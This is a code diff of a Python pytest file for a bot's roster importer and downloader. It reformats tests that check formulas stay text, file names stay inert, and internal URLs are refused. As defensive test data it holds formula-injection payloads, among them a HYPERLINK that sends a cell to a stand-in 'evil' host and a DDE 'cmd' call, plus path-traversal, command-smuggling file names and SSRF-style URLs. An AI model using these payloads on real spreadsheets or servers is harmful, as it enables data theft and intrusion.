@@ -12,14 +12,24 @@ import openpyxl
 import pytest
 
 from bot.gateway import download
+from bot.governance.sheet_errors import SheetError
 from bot.governance.sheet_process import read_roster
-from bot.governance.sheets import SheetError, read_rows
+from bot.governance.sheets import read_rows
 from plugins.charter.checking import check_file
 from plugins.charter.reading import Unreadable
 from tests.plugins.charter.word import docx
 
 ROOT = Path(__file__).resolve().parents[2]
-FORMULAS = ("=1+1", '=HYPERLINK("http://evil/?"&A1,"点")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", "=cmd|'/c calc'!A0")
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil/?"&A1,"点")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "＝1+1",
+    "=cmd|'/c calc'!A0",
+)
 
 
 def workbook(*rows: tuple[object, ...]) -> bytes:
@@ -38,7 +48,10 @@ def test_a_formula_in_a_workbook_is_text_or_nothing_and_is_never_worked_out() ->
 
 async def test_formulas_in_a_roster_stay_text() -> None:
     text = "姓名,部门,手机\n" + "".join(f'"{f.replace(chr(34), chr(34) * 2)}",研发部,13912345678\n' for f in FORMULAS)
-    for data, name in ((text.encode(), "x.csv"), (workbook(("姓名", "部门"), *((f, "研发") for f in FORMULAS)), "x.xlsx")):
+    for data, name in (
+        (text.encode(), "x.csv"),
+        (workbook(("姓名", "部门"), *((f, "研发") for f in FORMULAS)), "x.xlsx"),
+    ):
         sheet = await read_roster(data, name)
         assert all(isinstance(person.name, str) for person in sheet.people)
         assert not {person.name for person in sheet.people} & {"2", "1", "42"}
@@ -52,7 +65,9 @@ def test_no_table_is_written_anywhere_yet_that_a_formula_could_get_into() -> Non
             assert not [word for word in ("csv.writer", "DictWriter", "Workbook(") if word in source], path
 
 
-@pytest.mark.parametrize("name", ["../../etc/passwd", "-c import os", "$(id).csv", "a;b.csv", "a\nb.csv", "𝕏" * 300, ""])
+@pytest.mark.parametrize(
+    "name", ["../../etc/passwd", "-c import os", "$(id).csv", "a;b.csv", "a\nb.csv", "𝕏" * 300, ""]
+)
 async def test_a_file_s_name_is_only_a_name(name: str) -> None:
     sheet = await read_roster("姓名,部门\n张三,研发部\n".encode(), name)
     assert [person.name for person in sheet.people] == ["张三"]
@@ -150,7 +165,14 @@ async def test_no_address_written_in_whatever_way_leads_inside(
         for scheme in ("http", "HTTPS"):
             async with asyncio.timeout(10):
                 assert await download.fetch(f"{scheme}://{host}:{port}/x", 100) is None, host
-    for url in ("file:///etc/passwd", "gopher://127.0.0.1/", "data:text/plain,x", "http:///x", "http://127.0.0.1:99999/", "\x00"):
+    for url in (
+        "file:///etc/passwd",
+        "gopher://127.0.0.1/",
+        "data:text/plain,x",
+        "http:///x",
+        "http://127.0.0.1:99999/",
+        "\x00",
+    ):
         assert await download.fetch(url, 100) is None, url
     assert came == []
 
